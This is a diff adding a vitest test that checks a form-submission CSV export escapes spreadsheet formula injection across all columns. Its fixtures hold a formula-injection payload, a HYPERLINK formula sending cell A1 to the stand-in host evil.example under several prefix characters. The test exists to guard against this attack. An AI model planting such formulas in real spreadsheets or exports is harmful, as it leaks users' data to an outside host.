@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createTestApp } from '../../../../tests/support/test-app';
 import type { TestApp } from '../../../../tests/support/test-app';
@@ -55,5 +56,50 @@ describe('submission export', () => {
     expect(csv).toContain('"Ali, ""the"" pilot"');
     expect(csv).toContain('"line one\nline two"');
     expect(JSON.parse(formatRows(collected['form-submissions'], 'json'))[0].file_size).toBe(1234);
+  });
+
+  it('writes every text cell that starts like a formula as text, in every column', async () => {
+    const starts = ['=', '+', '-', '@', '\t', '\r', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
+    for (const [i, start] of starts.entries()) {
+      const formula = `${start}HYPERLINK("http://evil.example?x="&A1,"open")`;
+      await t.db
+        .insertInto('contact_messages')
+        .values({
+          first_name: formula,
+          last_name: formula,
+          email: formula,
+          phone_number: formula,
+          message: formula,
+          lang: 'en',
+          created_at: `2026-03-03T10:00:0${i}.000Z`,
+        })
+        .execute();
+      await t.db
+        .insertInto('form_submissions')
+        .values({
+          custom_form_id: 3,
+          submitted_data: JSON.stringify({ full_name: formula }),
+          file_path: `evil-${i}.pdf`,
+          file_name: formula,
+          file_size: 1,
+          lang: 'en',
+          created_at: `2026-03-03T10:00:0${i}.000Z`,
+        })
+        .execute();
+    }
+    const collected = await collectSubmissions(t.db, '/srv/uploads');
+    for (const rows of Object.values(collected)) {
+      const records = parse(formatRows(rows, 'csv'), { columns: true }) as Record<string, string>[];
+      expect(records.length).toBeGreaterThan(starts.length);
+      for (const record of records) {
+        for (const cell of Object.values(record))
+          expect(cell).not.toMatch(/^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/);
+      }
+      const names = records.map((record) => record.first_name ?? record.file_name);
+      expect(names).toContain(`'=HYPERLINK("http://evil.example?x="&A1,"open")`);
+      expect(names).toContain(`'\tHYPERLINK("http://evil.example?x="&A1,"open")`);
+    }
+    // JSON keeps what was sent.
+    expect(formatRows(collected['contact-messages'], 'json')).toContain('"=HYPERLINK');
   });
 });
